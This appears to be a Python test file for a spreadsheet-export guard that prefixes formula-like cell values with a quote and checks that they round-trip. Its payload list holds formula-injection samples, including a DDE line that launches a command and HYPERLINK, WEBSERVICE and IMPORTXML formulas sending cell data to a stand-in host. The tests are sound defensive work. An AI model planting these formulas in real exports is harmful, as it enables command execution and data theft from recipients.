"""Nothing that somebody typed is run by the program that opens our file, and nothing is lost on the way back."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from zhike.flows.customer_report import ReportedCustomer
from zhike.gateways.spreadsheets.formulas import guarded, is_formula, unguarded
from zhike.gateways.spreadsheets.tables import open_table
from zhike.gateways.spreadsheets.writing import Sheet, write_workbook
from zhike.jobs.management.commands.customers import Command

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '=WEBSERVICE("http://evil.example")',
    '=IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "\n=1",
    "\r\n@x",
    " =1",
    "\u3000=1",
    "\u00a0=1",
    "\ufeff=1",
    "\u200b=1",
    "\u202e=1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1",
    "−1+1",
    "=",
    "--1",
    "+86 138 1234 5678",
    "=\x00",
]
TEXTS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\ufffe\uffff"), max_size=30)
RISKY = st.builds(lambda start, rest: start + rest, st.sampled_from([*FORMULAS, "'", "''=", "'=1", "'-"]), TEXTS)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_guarded(text: str) -> None:
    assert is_formula(text)
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "甲", "-35", "+8613812345678", "-1,200.50", "a=1", "'s", "http://a.cn", "3-1"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert guarded(text) == unguarded(text) == text


@given(text=TEXTS | RISKY)
@example(text="'=1")
@example(text="''=1")
@example(text="'-35")
def test_what_was_meant_comes_back_and_what_goes_out_is_no_formula(text: str) -> None:
    out = guarded(text)
    assert unguarded(out) == text
    assert not out.lstrip("'").startswith("=") or out.startswith("'")
    assert out[:1] not in {"=", "@", "＝", "＠", "\t", "\r", "\n"}


@settings(deadline=None, max_examples=25)
@given(texts=st.lists((TEXTS | RISKY).filter(lambda text: text.strip() and "\0" not in text), min_size=1, max_size=12))
def test_a_file_of_guarded_cells_is_read_as_it_was_meant(
    tmp_path_factory: pytest.TempPathFactory, texts: list[str]
) -> None:
    path = tmp_path_factory.getbasetemp() / "guarded.csv"
    with path.open("w", encoding="utf-8-sig", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["编号", "名称"])
        writer.writerows([[str(number), guarded(text)] for number, text in enumerate(texts)])
    with open_table(path) as table:
        read = [cells[1] for _number, cells in table.rows()]
    assert read == texts


@settings(deadline=None, max_examples=25)
@given(texts=st.lists(RISKY.filter(lambda text: "\0" not in text), min_size=1, max_size=12))
def test_a_workbook_holds_texts_alone(tmp_path_factory: pytest.TempPathFactory, texts: list[str]) -> None:
    path = tmp_path_factory.getbasetemp() / "guarded.xlsx"
    write_workbook(path, [Sheet("s", ["=1+1", "名称"], [[str(n), text] for n, text in enumerate(texts)])])
    for row in openpyxl.load_workbook(path)["s"].iter_rows():
        for cell in row:
            assert cell.data_type == "s"
            assert cell.quotePrefix or not is_formula(str(cell.value))


@pytest.mark.django_db
def test_the_list_of_customers_runs_nothing() -> None:
    name = '=HYPERLINK("http://evil.example")'
    customer = ReportedCustomer(
        number="C1", external_id="@x", name=name, owner="+a", figures={"lrfmp": "-35"}, tiers={}
    )
    out = io.StringIO()
    Command(stdout=out)._print_csv([customer])
    [_headings, row] = csv.reader(io.StringIO(out.getvalue()))
    assert row == ["C1", "'@x", f"'{name}", "'+a", "-35"]
